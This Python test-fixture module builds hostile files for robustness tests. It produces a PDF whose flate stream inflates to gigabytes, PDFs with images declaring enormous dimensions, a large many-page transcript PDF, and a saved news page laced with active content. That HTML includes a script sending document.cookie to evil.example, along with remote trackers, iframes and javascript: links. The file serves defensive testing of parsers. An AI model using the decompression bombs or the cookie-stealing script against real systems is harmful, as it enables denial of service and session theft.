"""Builders of hostile files for the robustness tests: PDF decompression bombs, huge PDFs, poisoned HTML."""

from __future__ import annotations

import base64
import os
import struct
import zlib
from pathlib import Path


def raw_pdf(objects: list[bytes]) -> bytes:
    """A minimal PDF from object bodies (object 1 is the catalog), with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for offset in offsets:
        out += f"{offset:010d} 00000 n \n".encode()
    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return bytes(out)


def stream(entries: bytes, data: bytes) -> bytes:
    return b"<< " + entries + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def flate_bomb(inflated_mb: int, *, head: bytes = b"BT /F1 12 Tf 72 720 Td (Flate bomb) Tj ET\n") -> bytes:
    """A valid zlib stream that inflates to `inflated_mb` MB of spaces, built in about a second per 2 GB.

    After a full flush deflate restarts from an empty window, so one compressed megabyte can be repeated.
    """
    chunk = b" " * (1 << 20)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    parts = [deflate.compress(head) + deflate.flush(zlib.Z_FULL_FLUSH)]
    block = deflate.compress(chunk) + deflate.flush(zlib.Z_FULL_FLUSH)
    again = deflate.compress(chunk) + deflate.flush(zlib.Z_FULL_FLUSH)
    assert block == again
    parts += [block] * inflated_mb
    parts.append(deflate.flush())
    adler = zlib.adler32(head)
    for _ in range(inflated_mb):
        adler = zlib.adler32(chunk, adler)
    return b"\x78\x01" + b"".join(parts) + adler.to_bytes(4, "big")


def flate_bomb_pdf(path: Path, *, inflated_mb: int = 2048) -> Path:
    """One page whose content stream inflates to `inflated_mb` MB."""
    path.write_bytes(raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        stream(b"/Filter /FlateDecode", flate_bomb(inflated_mb)),
        FONT,
    ]))
    return path


def image_bomb_pdf(path: Path, *, jpeg: bool = False) -> Path:
    """One page showing an image that declares 100,000 x 100,000 pixels (65,000 square for a JPEG)."""
    if jpeg:
        sof = b"\xff\xc0" + struct.pack(">HBHHB", 17, 8, 65000, 65000, 3) + b"\x01\x22\x00\x02\x11\x01\x03\x11\x01"
        image = stream(b"/Type /XObject /Subtype /Image /Width 65000 /Height 65000 /ColorSpace /DeviceRGB "
                       b"/BitsPerComponent 8 /Filter /DCTDecode", b"\xff\xd8" + sof + b"\xff\xd9")
    else:
        image = stream(b"/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceRGB "
                       b"/BitsPerComponent 8 /Filter /FlateDecode", zlib.compress(b"\0" * 4096))
    path.write_bytes(raw_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /XObject << /Im1 5 0 R >> /Font << /F1 6 0 R >> >> >>",
        stream(b"", b"q 612 0 0 792 0 0 cm /Im1 Do Q BT /F1 12 Tf 72 720 Td (Image bomb exhibit) Tj ET"),
        image,
        FONT,
    ]))
    return path


def many_pages_pdf(path: Path, pages: int) -> Path:
    """A `pages`-page transcript: a shared body stream plus a small numbered header stream per page."""
    body = "\n".join(f"BT /F1 9 Tf 72 {700 - 14 * n} Td (Q. {n}. The witness described record {n} of the intake "
                     f"ledger and its transmission.) Tj ET" for n in range(1, 41)).encode()
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"", FONT, stream(b"", body)]
    kids = []
    for number in range(1, pages + 1):
        header = f"BT /F1 11 Tf 72 740 Td (Transcript page {number} of {pages}) Tj ET".encode()
        objects.append(stream(b"", header))
        objects.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents [%d 0 R 4 0 R] "
                       b"/Resources << /Font << /F1 3 0 R >> >> >>" % len(objects))
        kids.append(f"{len(objects)} 0 R")
    objects[1] = f"<< /Type /Pages /Kids [{' '.join(kids)}] /Count {pages} >>".encode()
    path.write_bytes(raw_pdf(objects))
    return path


def poisoned_article(path: Path, *, inline_mb: int = 6) -> Path:
    """A saved news page with scripts, iframes, remote images, forms and megabytes of data: URIs."""
    blob = base64.b64encode(os.urandom(inline_mb * 1024 * 1024 * 3 // 4)).decode()
    path.write_text(f"""<!doctype html><html><head><meta charset="utf-8"><title>Agency shares records</title>
<script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
<script src="https://evil.example/tracker.js"></script>
<link rel="stylesheet" href="https://evil.example/site.css">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<style>@import url(https://evil.example/more.css); body {{ background: url(https://evil.example/bg.png) }}</style>
</head><body><article><h1>Agency shares records</h1>
<p>The agency shared records on thousands of taxpayers with another department, a sworn filing says.</p>
<iframe src="https://evil.example/frame"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>
<img src="https://evil.example/pixel.gif" width="1" height="1" srcset="https://evil.example/a.png 2x">
<img src="data:image/png;base64,{blob}">
<p style="background:url(https://evil.example/p.png)" onclick="steal()">A second paragraph with an
<a href="javascript:steal()">odd link</a> and <a href="https://court.example/order.pdf">the order</a>.</p>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/e.swf">
<svg><image href="https://evil.example/svg.png"/><script>alert(2)</script></svg>
<video src="https://evil.example/v.mp4" poster="https://evil.example/poster.jpg"></video>
<form action="https://evil.example/post"><input name="q"><button>Send</button></form>
<p>Third paragraph: the court ordered the sharing paused.</p>
</article></body></html>""", encoding="utf-8")
    return path
